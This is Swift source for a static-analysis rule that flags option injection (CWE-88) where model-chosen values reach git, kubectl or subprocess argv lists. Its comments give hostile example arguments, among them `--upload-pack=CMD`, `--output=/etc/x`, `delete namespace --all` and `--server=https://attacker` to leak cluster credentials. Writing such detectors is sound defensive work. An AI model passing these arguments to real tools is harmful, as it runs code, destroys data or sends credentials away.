// Option injection (CWE-88): a program run with a fixed argv (`["git", "diff", target]`,
// `repo.git.checkout(branch)`, `execFile("git", ["clone", url])`) is handed a value the model
// chose where the program still reads options. No shell is involved, so quoting is not the
// question: a value that starts with '-' is an option to the program itself (`git diff
// --output=/etc/x` writes a file, `git clone --upload-pack=CMD` runs one). It is safe after a
// literal `--` (or `--end-of-options`), attached to its option (`f"--branch={b}"`), behind a
// constant prefix (`f"refs/heads/{b}"`), as the value of a short option before it (`-m`, msg),
// or in a function that rejects values starting with '-'.

extension CodeRules {
    /// Checks a call that runs a program with a fixed argv; findings wait for the function's
    /// end (a `startswith("-")` check may come later in the body).
    mutating func argumentInjection(_ c: Call, _ scope: Scope, _ code: Code, _ at: Token) {
        guard let (program, items) = fixedArgv(c, code) else { return }
        let toks = code.tokens
        var valueOfOption = false
        // An interpreter's code flag (`python3 -c SCRIPT ARG`): the source is judged as code
        // (inlineCode) and what follows it is the script's own argv, not the interpreter's.
        let codeFlags = Self.inlineCodeFlags[String(program.split(separator: "/").last ?? Substring(program))] ?? []
        for item in items {
            let lit = code.literal(item)
            if lit == "--" || lit == "--end-of-options" { return }
            if let lit, codeFlags.contains(lit) { return }
            if valueOfOption {
                valueOfOption = false
                continue
            }
            if let lit {
                // `-m msg`, `-b name`, `-C dir`: a short option reads the next element as its
                // value, whatever it starts with.
                if lit.utf8.count == 2, lit.hasPrefix("-"), lit != "--" { valueOfOption = true }
                continue
            }
            var r = item
            // `*args` in a list: every element the model chose.
            if toks[r.lowerBound].isOp("*"), r.count > 1 { r = (r.lowerBound + 1)..<r.upperBound }
            guard Self.mayStartWithDash(r, code), !enumerated(r, code) else { continue }
            let o = code.origin(r, scope)
            if o == .untrusted {
                facts[ObjectIdentifier(scope), default: Facts()].optionArguments.append(
                    (at, "\(program) gets \(text(code, r))"))
                return
            }
            if let p = ownParam(r, scope, code) {
                noteParamSink(
                    scope, p, RuleID.argumentInjection, at,
                    "\(program) gets parameter \(p) where it reads options, with no `--` before it")
                return
            }
        }
    }

    /// The program (for messages) and the argv elements after it, when the call runs a fixed
    /// program without a shell: `subprocess.run(["git", "diff", x])`,
    /// `asyncio.create_subprocess_exec("git", "diff", x)`, `execFile("git", ["diff", x])`,
    /// GitPython's `repo.git.diff(x)`.
    func fixedArgv(_ c: Call, _ code: Code) -> (String, [Range<Int>])? {
        let toks = code.tokens
        let callee = c.callee
        func listItems(_ r: Range<Int>) -> [Range<Int>]? {
            guard toks[r.lowerBound].isOp("[") || toks[r.lowerBound].isOp("(") else { return nil }
            let close = Code.close(toks, r.lowerBound, r.upperBound)
            guard close == r.upperBound - 1 else { return nil }
            return code.arguments(r.lowerBound, close).args
        }
        if language == .python, c.segments.count >= 3, c.segments[c.segments.count - 2] == "git",
            let head = c.segments.first, !code.modules.contains(head), code.aliases[head] == nil,
            !["execute", "init", "clone_from"].contains(c.last)
        {
            return ("git \(c.last)", c.args)
        }
        guard c.known, APIs.matches(callee, APIs.spawn), shellCommand(c, code) == nil else { return nil }
        if language == .python {
            if callee == "asyncio.create_subprocess_exec", let p = c.args.first, let name = code.literal(p) {
                return (name, Array(c.args.dropFirst()))
            }
            guard callee.hasPrefix("subprocess."), let argv = c.arg(0, "args"), let items = listItems(argv),
                let first = items.first, let name = code.literal(first)
            else { return nil }
            return (name, Array(items.dropFirst()))
        }
        guard let p = c.args.first, let name = code.literal(p), c.args.count >= 2, let items = listItems(c.args[1])
        else { return nil }
        return (name, items)
    }

    /// Whether the element's text can begin with '-': anything but a string whose first bytes
    /// are constant and are not an option without its value (`f"refs/{b}"`, `f"--since={d}"`
    /// and `"--author=" + a` cannot; `f"-{flag}"` and `name` can).
    static func mayStartWithDash(_ r: Range<Int>, _ code: Code) -> Bool {
        let first = code.tokens[r.lowerBound]
        guard first.kind == .string else { return true }
        var prefix = Substring(first.text)
        if first.formatted, let brace = first.text.firstIndex(of: "{") {
            prefix = first.text[..<brace]
            if prefix.hasSuffix("$") { prefix = prefix.dropLast() }
        }
        if prefix.isEmpty { return true }
        if prefix.hasPrefix("-") { return !prefix.contains("=") }
        return false
    }

    /// A name whose schema allows only listed values: `service: z.enum(["web", "db"])` in a
    /// tool's zod schema, `mode: Literal["fast", "full"]` in a Python signature or model.
    func enumerated(_ r: Range<Int>, _ code: Code) -> Bool {
        let toks = code.tokens
        guard r.count == 1, toks[r.lowerBound].kind == .name else { return false }
        let name = toks[r.lowerBound].text
        var i = 0
        while i + 4 < toks.count {
            if toks[i].kind == .name || toks[i].kind == .string, toks[i].text == name, toks[i + 1].isOp(":") {
                if toks[i + 2].isName("z"), toks[i + 3].isOp("."), toks[i + 4].isName("enum") { return true }
                if toks[i + 2].isName("Literal"), toks[i + 3].isOp("[") { return true }
            }
            i += 1
        }
        return false
    }

    /// The body rejects values that start with '-' (`if branch.startswith("-"): raise`).
    func rejectsOptions(_ body: Range<Int>, _ code: Code) -> Bool {
        let toks = code.tokens
        for i in body where toks[i].kind == .name && (toks[i].textIs("startswith") || toks[i].textIs("startsWith")) {
            var j = i + 1
            while j < body.upperBound && j <= i + 4 {
                if toks[j].kind == .string && toks[j].text.hasPrefix("-") { return true }
                j += 1
            }
        }
        return false
    }
}

// Argv runners (issue 16, session 14): a helper runs a fixed program with the list its caller
// built as the operands (`def _run_kubectl_command(command): subprocess.run(["kubectl"] +
// command)`), and each caller builds that list from the model's words (`command = ["delete",
// "pod", pod_name]`, `command.append(name)`, `command.extend(["-n", namespace])`). The
// option-injection question is the same as for a list written in the call: an element the
// model chose, not after `--`, not the value of a short option and not behind a constant
// prefix, is read by the program as an option when it starts with '-' (`kubectl delete
// namespace --all`, `kubectl get pods --server=https://attacker` sends the cluster's
// credentials away). Each such element is reported where the caller adds it.

extension CodeRules {
    /// `subprocess.run(["kubectl"] + command)` with `command` a parameter of the function.
    mutating func noteArgvRunner(_ c: Call, _ scope: Scope, _ code: Code) {
        guard scope.parent != nil, c.known, APIs.matches(c.callee, APIs.spawn), c.callee.hasPrefix("subprocess."),
            let argv = c.arg(0, "args")
        else { return }
        let toks = code.tokens
        guard toks[argv.lowerBound].isOp("[") else { return }
        let close = Code.close(toks, argv.lowerBound, argv.upperBound)
        guard close + 2 < argv.upperBound, toks[close + 1].isOp("+"), close + 3 == argv.upperBound,
            toks[close + 2].kind == .name, let index = scope.order.firstIndex(of: toks[close + 2].text)
        else { return }
        let items = code.arguments(argv.lowerBound, close).args
        guard items.count == 1, let program = code.literal(items[0]) else { return }
        argvRunners[scope.name] = (program, index)
    }

    /// A call of an argv runner of the file, handed a name: the elements the function put in
    /// that list above the call, in order, judged as argumentInjection judges a written argv.
    mutating func argvRunnerCall(_ c: Call, _ scope: Scope, _ code: Code) {
        guard !argvRunners.isEmpty, !c.onExpression, c.segments.count == 1, let runner = argvRunners[c.last],
            runner.index < c.args.count
        else { return }
        let toks = code.tokens
        let arg = c.args[runner.index]
        guard arg.count == 1, toks[arg.lowerBound].kind == .name else { return }
        let name = toks[arg.lowerBound].text
        var items: [Range<Int>] = []
        var i = scope.bodyStart
        while i + 3 < c.first {
            defer { i += 1 }
            guard toks[i].kind == .name, toks[i].text == name, i == 0 || !toks[i - 1].isOp(".") else { continue }
            var list: Int?
            if toks[i + 1].isOp("="), toks[i + 2].isOp("[") {
                items = []
                list = i + 2
            } else if toks[i + 1].isOp("+="), toks[i + 2].isOp("[") {
                list = i + 2
            } else if toks[i + 1].isOp("."), i + 4 < c.first, toks[i + 3].isOp("(") {
                if toks[i + 2].isName("append") {
                    let close = Code.close(toks, i + 3, c.first)
                    if close > i + 4 { items.append((i + 4)..<close) }
                } else if toks[i + 2].isName("extend"), toks[i + 4].isOp("[") {
                    list = i + 4
                }
            }
            if let open = list {
                let close = Code.close(toks, open, c.first)
                items += code.arguments(open, close).args
                i = close
            }
        }
        var valueOfOption = false
        for item in items {
            let lit = code.literal(item)
            if lit == "--" || lit == "--end-of-options" { return }
            if valueOfOption {
                valueOfOption = false
                continue
            }
            if let lit {
                if lit.utf8.count == 2, lit.hasPrefix("-"), lit != "--" { valueOfOption = true }
                continue
            }
            guard Self.mayStartWithDash(item, code), !enumerated(item, code) else { continue }
            let at = toks[item.lowerBound]
            if code.origin(item, scope) == .untrusted {
                facts[ObjectIdentifier(scope), default: Facts()].optionArguments.append(
                    (at, "\(runner.program) gets \(text(code, item))"))
            } else if let p = ownParam(item, scope, code) {
                noteParamSink(
                    scope, p, RuleID.argumentInjection, at,
                    "\(runner.program) gets parameter \(p) where it reads options, with no `--` before it")
            }
        }
    }
}
